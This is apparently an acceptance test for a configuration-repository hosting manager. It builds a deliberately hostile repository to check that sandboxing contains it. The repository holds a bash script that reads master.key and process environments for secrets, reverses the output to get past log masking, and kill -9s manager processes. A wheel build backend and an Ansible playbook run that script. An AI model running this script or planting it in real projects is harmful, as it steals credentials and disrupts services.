"""Configuration repositories whose authors want the fleet's secrets, and want others to fail.

`THEFT` runs on the manager while an environment is built, on the manager as a task, and on the
host. It writes what it finds backwards, so that no mask hides it.
"""

import subprocess
from importlib.metadata import version
from pathlib import Path

import pytest

from tests.acceptance.installation import Installation, Refused, until
from tests.acceptance.spine import OF_INSTANCE, assert_no_other_hosts
from tests.acceptance.traffic import Traffic
from tests.adapters.git_support import Repository
from tests.adapters.test_ansible_builds import PROJECT

PLANTED = "planted-for-the-neighbour"
NEWEST = f"select is_active {OF_INSTANCE} order by appserver.id desc"
"""Query for the state of an instance's newest app server: 1 if it is active."""
THEFT = r"""
exec 2>/dev/null
cd {var} || echo "no state"
{{
  cat master.key
  echo
  grep -rhoa --devices=skip -m1 "[{planted:.1}]{rest}" .
  for process in /proc/[0-9]*; do
    cat $process/root/{var}/master.key && echo
    tr '\0' '\n' < $process/environ | grep -a MASTER_KEY
  done
}} | sort -u | rev | head -c 10000
for process in /proc/[0-9]*; do
  grep -qaE "ocim.project.main|supervisord|caddy" $process/cmdline && {attack} ${{process#/proc/}}
done
echo "looked everywhere"
"""
PLAYBOOK = """
- hosts: all
  gather_facts: false
  tasks:
    - command: "{{ ansible_playbook_python }} -m evil"
      delegate_to: localhost
      register: build
    - command: "bash {{ playbook_dir }}/theft.sh"
      delegate_to: localhost
      register: manager
    - script: theft.sh
      register: host
    - fail:
        msg: >-
          {{ build.stdout_lines | join(' ') }}
          {{ manager.stdout_lines | join(' ') }}
          {{ host.stdout_lines | join(' ') }}
"""
BACKEND = """
import os, subprocess, zipfile

FILES = {
    "evil.py": "print(%r)",
    "evil-1.0.dist-info/METADATA": "Metadata-Version: 2.1\\nName: evil\\nVersion: 1.0\\n",
    "evil-1.0.dist-info/WHEEL":
        "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
    "evil-1.0.dist-info/RECORD": "",
}

def build_wheel(directory, config_settings=None, metadata_directory=None):
    found = subprocess.run(["bash", "theft.sh"], capture_output=True, text=True).stdout
    name = "evil-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(directory, name), "w") as archive:
        for path, text in FILES.items():
            archive.writestr(path, text % found if "%" in text else text)
    return name
"""


def theft(var: Path, planted: str, *, attack: str = "kill -9") -> str:
    """Return a script that looks for the key and for `planted`, and attacks the manager.

    It does not hold the word itself, so as not to find itself.
    """
    return THEFT.format(var=var, planted=planted, rest=planted[1:], attack=attack)


def repository(directory: Path, var: Path, planted: str) -> Repository:
    """Make a repository that steals wherever code of it runs."""
    made = Repository(directory)
    script = theft(var, planted)
    made.commit(
        {
            "requirements.txt": f"ansible-core=={version('ansible-core')}\n./package\n",
            "package/backend.py": BACKEND,
            "package/pyproject.toml": PROJECT,
            "package/theft.sh": script,
            "playbooks/site.yml": PLAYBOOK,
            "playbooks/theft.sh": script,
        }
    )
    return made


def gets_nothing(installation: Installation, neighbour: str, directory: Path) -> None:
    """Let a repository steal and kill in vain while another app server comes up.

    That is one of the instance `neighbour`, which has the word PLANTED among its settings.
    """
    key = (installation.var / "master.key").read_text().strip()
    secrets = [key, key[::-1], PLANTED[::-1]]
    without_sandbox = _output_of(theft(installation.var, PLANTED, attack=":"))
    assert all(secret in without_sandbox for secret in secrets[1:]), "the script finds nothing"

    url = repository(directory / "hostile", installation.var, PLANTED).url
    hostile = installation.instance(
        "hostile.localhost",
        configuration_source_repo_url=url,
        configuration_version="master",
        configuration_playbook_name="site.yml",
    )
    managers = _managers(installation)
    installation.ocim("appserver", "spawn", neighbour, "--activate", "--no-wait")
    with pytest.raises(Refused), Traffic(installation, neighbour) as traffic:
        installation.ocim("appserver", "spawn", hostile)
    assert traffic.failures == []
    assert _managers(installation) == managers
    (failed,) = installation.appservers(hostile)
    output = failed["failure"] + installation.ocim("appserver", "logs", str(failed["id"]))
    assert output.count("looked everywhere") >= 3, output
    assert [secret for secret in secrets if secret in output] == [], output

    until(lambda: installation.ask(NEWEST, neighbour), "the neighbour does not come up")
    installation.ocim("instance", "archive", hostile, "--yes")
    assert_no_other_hosts(installation)


def _managers(installation: Installation) -> set[int]:
    return {process.pid for process in installation.processes("ocim.project.main")}


def _output_of(script: str) -> str:
    done = subprocess.run(["bash", "-c", script], capture_output=True, text=True, check=False)
    return done.stdout
